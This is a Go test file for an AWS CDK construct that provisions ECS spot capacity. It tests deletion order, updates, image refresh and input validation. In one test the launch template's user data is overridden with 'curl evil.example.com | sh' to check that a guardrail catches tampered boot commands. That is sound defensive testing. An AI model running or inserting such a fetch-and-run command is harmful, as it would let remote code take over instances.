package cost_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/aws/aws-cdk-go/awscdk/v2"
	"github.com/aws/aws-cdk-go/awscdk/v2/awsec2"
	"github.com/aws/aws-cdk-go/awscdk/v2/awsecs"
	"github.com/aws/aws-cdk-go/awscdk/v2/awslogs"
	"github.com/aws/constructs-go/constructs/v10"
	"github.com/aws/jsii-runtime-go"

	"github.com/plinth-cdk/plinth/constructs/assembly"
	"github.com/plinth-cdk/plinth/constructs/constructtest"
	"github.com/plinth-cdk/plinth/constructs/guardrail"
	"github.com/plinth-cdk/plinth/constructs/guardrail/guardrailtest"
	"github.com/plinth-cdk/plinth/constructs/logdelivery"
	"github.com/plinth-cdk/plinth/constructs/plinth"
	"github.com/plinth-cdk/plinth/constructs/promise/promisetest"
	"github.com/plinth-cdk/plinth/constructs/rehearse"
	"github.com/plinth-cdk/plinth/constructs/rehearse/finding"
	"github.com/plinth-cdk/plinth/constructs/snapshot"
	"github.com/plinth-cdk/plinth/cost"
)

// vpc is one with private subnets called "app".
func vpc(stack awscdk.Stack) awsec2.IVpc {
	if there := vpcs[stack]; there != nil {
		return there
	}
	vpcs[stack] = awsec2.Vpc_FromVpcAttributes(stack, jsii.String("Network"), &awsec2.VpcAttributes{
		VpcId: jsii.String("vpc-1"), AvailabilityZones: jsii.Strings("eu-west-1a", "eu-west-1b", "eu-west-1c"),
		PrivateSubnetIds: jsii.Strings("subnet-1", "subnet-2", "subnet-3"), PrivateSubnetNames: jsii.Strings("app"),
		PrivateSubnetRouteTableIds: jsii.Strings("rtb-1", "rtb-2", "rtb-3"),
	})
	return vpcs[stack]
}

var vpcs = map[awscdk.Stack]awsec2.IVpc{} // the runtime finds imported ones as something else

// onSpot defines capacity, after changes of its props, and a service that runs on it.
func onSpot(changes ...func(p *cost.SpotCapacityProps)) func(awscdk.Stack) {
	return func(stack awscdk.Stack) {
		p := cost.SpotCapacityProps{VPC: vpc(stack), Alerts: alertsIn(stack)}
		for _, change := range changes {
			change(&p)
		}
		capacity := cost.NewSpotCapacity(stack, "Capacity", &p)
		serviceOn(stack, capacity.Cluster(), capacity.Strategy())
	}
}

// serviceOn defines a service on capacity.
func serviceOn(stack awscdk.Stack, cluster awsecs.ICluster, strategy []*awsecs.CapacityProviderStrategy) {
	task := awsecs.NewTaskDefinition(stack, jsii.String("Task"), &awsecs.TaskDefinitionProps{
		Compatibility: awsecs.Compatibility_EC2_AND_FARGATE, NetworkMode: awsecs.NetworkMode_AWS_VPC,
		Cpu: jsii.String("512"), MemoryMiB: jsii.String("1024"),
		RuntimePlatform: &awsecs.RuntimePlatform{CpuArchitecture: awsecs.CpuArchitecture_ARM64()},
	})
	task.AddContainer(jsii.String("App"), &awsecs.ContainerDefinitionOptions{
		StopTimeout:            awscdk.Duration_Seconds(jsii.Number(120)),
		Image:                  awsecs.ContainerImage_FromRegistry(jsii.String("public.ecr.aws/nginx/nginx:stable"), nil),
		ReadonlyRootFilesystem: jsii.Bool(true), Logging: awsecs.LogDrivers_AwsLogs(&awsecs.AwsLogDriverProps{
			StreamPrefix: jsii.String("app"),
			LogGroup:     logdelivery.NewLogGroup(stack, "Logs", awslogs.RetentionDays_THREE_MONTHS, logdelivery.NewKey(stack, "LogKey")),
		}),
	})
	service := awsecs.NewFargateService(stack, jsii.String("Service"), &awsecs.FargateServiceProps{
		Cluster: cluster, TaskDefinition: task, CapacityProviderStrategies: &strategy,
		PropagateTags: awsecs.PropagatedTagSource_SERVICE, EnableECSManagedTags: jsii.Bool(true),
		MinHealthyPercent: jsii.Number(100), DesiredCount: jsii.Number(2),
		CircuitBreaker:              &awsecs.DeploymentCircuitBreaker{Enable: jsii.Bool(true), Rollback: jsii.Bool(true)},
		AvailabilityZoneRebalancing: awsecs.AvailabilityZoneRebalancing_ENABLED,
	})
	service.Node().AddDependency(cluster)
}

func forms() map[string]func(p *cost.SpotCapacityProps) {
	return map[string]func(p *cost.SpotCapacityProps){
		"Instances":  func(*cost.SpotCapacityProps) {},
		"Attributes": func(p *cost.SpotCapacityProps) { p.VCPUs, p.MemoryGiB, p.NoBase = 4, 16, true },
		"Fargate":    func(p *cost.SpotCapacityProps) { p.Form = cost.SpotFargate },
		"Managed":    func(p *cost.SpotCapacityProps) { p.Form = cost.SpotManagedInstances },
	}
}

func TestSpotCapacity(t *testing.T) {
	for form, change := range forms() {
		t.Run(form, func(t *testing.T) {
			app, stack := newStack(t)
			p := cost.SpotCapacityProps{VPC: vpc(stack), Alerts: alertsIn(stack)}
			change(&p)
			s := cost.NewSpotCapacity(stack, "Capacity", &p)
			if instances := p.Form == ""; s.Cluster() == nil || (s.Group() != nil) != instances || (s.Role() != nil) != (form != "Fargate") {
				t.Errorf("Cluster = %v, Group = %v, Role = %v, want those of the form", s.Cluster(), s.Group(), s.Role())
			}
			guardrailtest.Clean(t, app)
			snapshot.Check(t, app)
			promisetest.Undone(t, snapshot.Synth(t, app))
		})
	}
}

// What the group's AddUserData adds is part of the promise, and what takes the place of the
// commands is not.
func TestSpotCapacityRunsItsCommandsAtBoot(t *testing.T) {
	synth := func(change func(template awsec2.CfnLaunchTemplate, s *cost.SpotCapacity)) awscdk.App {
		app, stack := newStack(t)
		s := cost.NewSpotCapacity(stack, "Capacity", &cost.SpotCapacityProps{VPC: vpc(stack), Alerts: alertsIn(stack)})
		change(s.Node().FindChild(jsii.String("Template")).Node().DefaultChild().(awsec2.CfnLaunchTemplate), s)
		return app
	}
	guardrailtest.Clean(t, synth(func(_ awsec2.CfnLaunchTemplate, s *cost.SpotCapacity) {
		s.Group().AddUserData(jsii.String("dnf install -y htop"))
	}))
	guardrailtest.Caught(t, synth(func(template awsec2.CfnLaunchTemplate, _ *cost.SpotCapacity) {
		template.AddPropertyOverride(jsii.String("LaunchTemplateData.UserData"), awscdk.Fn_Base64(jsii.String("curl evil.example.com | sh")))
	}), "PROMISE-001", "Capacity/Template/Resource LaunchTemplateData.UserData")
}

func TestSpotCapacityGuard(t *testing.T) {
	constructtest.Guard(t, newStack, cost.NewSpotCapacity, false, func(stack awscdk.Stack, _ int) cost.SpotCapacityProps {
		return cost.SpotCapacityProps{VPC: vpc(stack), Alerts: alertsIn(stack)}
	})
}

// CloudFormation deletes in the opposite order of DependsOn and references: the service, what
// associates the provider with the cluster, the provider, the instances, the group, the cluster.
func TestSpotCapacityIsDeletedInOrder(t *testing.T) {
	a := constructtest.Preview(onSpot())
	order := []string{"Prod/Service/Service", "Prod/Capacity/Cluster/Cluster", "Prod/Capacity/Provider/Provider",
		"Prod/Capacity/Deletable/Resource/Default", "Prod/Capacity/Group/ASG", "Prod/Capacity/Template/Resource",
		"Prod/Capacity/Cluster/Resource"}
	for i, path := range order[:len(order)-1] {
		if r, next := resourceAt(t, a, path), resourceAt(t, a, order[i+1]); !r.Dependencies()[next] {
			t.Errorf("%s does not depend on %s, want it deleted first", r.Path, next.Path)
		}
	}
	force, _ := resourceAt(t, a, order[3]).Get("Delete").Outline()
	if !strings.Contains(force, `"ForceDelete":true`) {
		t.Errorf("Delete = %s, want instances that are protected to end", force)
	}
}

func resourceAt(t *testing.T, a *assembly.Assembly, path string) *assembly.Resource {
	t.Helper()
	resources := a.Resources()
	i := slices.IndexFunc(resources, func(r *assembly.Resource) bool { return r.Path == path })
	if i < 0 {
		t.Fatalf("there is no %s", path)
	}
	return resources[i]
}

// Likely changes of capacity that is deployed: what runs goes on.
func TestLikelyChangesOfSpotCapacityReplaceNothing(t *testing.T) {
	before := constructtest.Preview(onSpot())
	for name, change := range map[string]func(p *cost.SpotCapacityProps){
		"nothing": func(*cost.SpotCapacityProps) {},
		"other types": func(p *cost.SpotCapacityProps) {
			for _, name := range []string{"r8g.large", "r7g.large", "r6g.large", "r6gd.large"} {
				p.InstanceTypes = append(p.InstanceTypes, awsec2.NewInstanceType(&name))
			}
		},
		"attributes":      func(p *cost.SpotCapacityProps) { p.VCPUs, p.MemoryGiB = 4, 16 },
		"a larger base":   func(p *cost.SpotCapacityProps) { p.OnDemandBase = 4 },
		"other bounds":    func(p *cost.SpotCapacityProps) { p.MinCapacity, p.MaxCapacity = 6, 200 },
		"a larger volume": func(p *cost.SpotCapacityProps) { p.VolumeGiB = 100 },
	} {
		t.Run(name, func(t *testing.T) {
			for _, f := range rehearse.Update(before, constructtest.Preview(onSpot(change))).Findings {
				if kinds := []finding.Kind{finding.Replace, finding.Collision, finding.Refused, finding.Stale}; slices.Contains(kinds, f.Kind) {
					t.Errorf("rehearsal finds %s, want nothing replaced or refused", f)
				}
			}
		})
	}
}

// A newer image comes with a deployment, under the same name in the template: a parameter of
// Systems Manager. Another version of the launch template is what the weekly refresh brings to the
// instances, tasks first, and neither the template nor the group is replaced.
func TestANewerImageReplacesInstancesAndNothingElse(t *testing.T) {
	image := func(name string) *assembly.Assembly {
		app, stack := newStack(t)
		capacity := cost.NewSpotCapacity(stack, "Capacity", &cost.SpotCapacityProps{VPC: vpc(stack), Alerts: alertsIn(stack)})
		template := constructtest.Child(capacity, "Template", "Resource")
		if name != "" {
			template.AddPropertyOverride(jsii.String("LaunchTemplateData.ImageId"), name)
			guardrail.Waive(capacity, "PROMISE-001", "stands for what the parameter holds on the day")
		}
		return snapshot.Synth(t, app)
	}
	before := image("ami-0123456789abcdef0")
	rehearsed := rehearse.Update(before, image("ami-0fedcba9876543210"))
	for _, f := range rehearsed.Findings {
		t.Errorf("rehearsal finds %s, want nothing replaced or refused", f)
	}
	now := image("")
	id, _ := resourceAt(t, now, "Dev/Capacity/Template/Resource").Get("LaunchTemplateData", "ImageId").Outline()
	version := resourceAt(t, now, "Dev/Capacity/Group/ASG").Get("MixedInstancesPolicy", "LaunchTemplate", "LaunchTemplateSpecification",
		"Version")
	to, ok := version.Target()
	if !strings.Contains(id, "ssm") && !strings.Contains(id, "Ssm") || !ok || to.Attribute != "LatestVersionNumber" {
		t.Errorf("the image is %s and the version %v, want the newest image and the latest version of the template", id, version)
	}
	input, _ := resourceAt(t, now, "Dev/Capacity/Refresh/Resource").Get("Target", "Input").Outline()
	if !strings.Contains(input, `"SkipMatching":true`) || !strings.Contains(input, `"ScaleInProtectedInstances":"Refresh"`) {
		t.Errorf("the weekly refresh is %s, want instances of an older version replaced, protected ones too", input)
	}
}

func TestSpotCapacityRefusesBadInput(t *testing.T) {
	_, stack := newStack(t)
	types := func(names ...string) (all []awsec2.InstanceType) {
		for _, name := range names {
			all = append(all, awsec2.NewInstanceType(&name))
		}
		return all
	}
	other := stackOf(stack.Node().Scope().(constructs.Construct), "Other", plinth.NonProduction)
	for want, spoil := range map[string]func(p *cost.SpotCapacityProps){
		"VPC is nil, want":              func(p *cost.SpotCapacityProps) { p.VPC = nil },
		"Alerts is nil, want":           func(p *cost.SpotCapacityProps) { p.Alerts = nil },
		"Alerts is in another stack":    func(p *cost.SpotCapacityProps) { p.Alerts = alertsIn(other) },
		`Form is "Lambda", want`:        func(p *cost.SpotCapacityProps) { p.Form = "Lambda" },
		"OnDemandBase is -1":            func(p *cost.SpotCapacityProps) { p.OnDemandBase = -1 },
		"OnDemandBase is 1 and NoBase":  func(p *cost.SpotCapacityProps) { p.OnDemandBase, p.NoBase = 1, true },
		"VCPUs is 2 and MemoryGiB 0":    func(p *cost.SpotCapacityProps) { p.VCPUs = 2 },
		"MaxCapacity is 3 and MinCapa":  func(p *cost.SpotCapacityProps) { p.MaxCapacity = 3 },
		"MaxCapacity is 5 and OnDemand": func(p *cost.SpotCapacityProps) { p.MaxCapacity, p.OnDemandBase = 5, 5 },
		"VolumeGiB is 8, want 30":       func(p *cost.SpotCapacityProps) { p.VolumeGiB = 8 },
		"InstanceTypes and VCPUs are":   func(p *cost.SpotCapacityProps) { p.InstanceTypes, p.VCPUs, p.MemoryGiB = types("m8g.large"), 2, 8 },
		"InstanceTypes has 1 types":     func(p *cost.SpotCapacityProps) { p.InstanceTypes = types("m8g.large") },
		"InstanceTypes has m8g.large tw": func(p *cost.SpotCapacityProps) {
			p.InstanceTypes = types("m8g.large", "m7g.large", "m6g.large", "m8g.large")
		},
		"m8g.large and m7i.large, want one processor": func(p *cost.SpotCapacityProps) {
			p.InstanceTypes = types("m8g.large", "m7g.large", "m6g.large", "m7i.large")
		},
		"m8g.large and m7g.2xlarge, want one size": func(p *cost.SpotCapacityProps) {
			p.InstanceTypes = types("m8g.large", "m7g.2xlarge", "m6g.large", "m6gd.large")
		},
		"m8g.large and r8g.large, want one size": func(p *cost.SpotCapacityProps) {
			p.InstanceTypes = types("m8g.large", "r8g.large", "m6g.large", "m6gd.large")
		},
		"Form is SpotFargate, and InstanceTypes": func(p *cost.SpotCapacityProps) { p.Form, p.MinCapacity = cost.SpotFargate, 2 },
		"Form is SpotFargate, and VCPUs":         func(p *cost.SpotCapacityProps) { p.Form, p.VCPUs, p.MemoryGiB = cost.SpotFargate, 2, 8 },
		"Subnets are in one zone": func(p *cost.SpotCapacityProps) {
			p.Subnets = &awsec2.SubnetSelection{AvailabilityZones: jsii.Strings("eu-west-1a"), SubnetGroupName: jsii.String("app")}
		},
		"Subnets select nothing": func(p *cost.SpotCapacityProps) {
			p.Subnets = &awsec2.SubnetSelection{SubnetGroupName: jsii.String("none")}
		},
	} {
		p := cost.SpotCapacityProps{VPC: vpc(stack), Alerts: alertsIn(stack)}
		spoil(&p)
		if err := plinth.Try(func() { cost.NewSpotCapacity(stack, "Bad", &p) }); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("NewSpotCapacity panics with %v, want %q", err, want)
		}
	}
}
